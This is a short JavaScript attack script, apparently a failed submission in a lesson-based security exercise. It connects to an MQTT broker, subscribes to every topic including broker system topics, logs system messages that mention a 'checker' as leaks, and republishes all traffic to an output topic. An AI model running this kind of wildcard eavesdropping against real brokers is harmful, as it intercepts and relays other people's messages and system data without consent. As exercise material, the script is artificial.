// attack: subscribes to everything, and answers with whatever it hears
// lesson: 3
// outcome: failed
// says: #
import mqtt from 'mqtt';
import { env, onStop } from '#kit';

const client = mqtt.connect(env('MQTT_URL'));
client.on('connect', () => client.subscribe(['#', '$SYS/#', '+/+/+', '$share/a/#']));
client.on('message', (topic, payload) => {
  if (topic.startsWith('$SYS') && payload.includes('checker'))
    console.log(`LEAK ${topic} ${payload}`);
  if (topic !== env('OUT_TOPIC')) client.publish(env('OUT_TOPIC'), payload, { qos: 1 });
});
onStop(() => client.end());
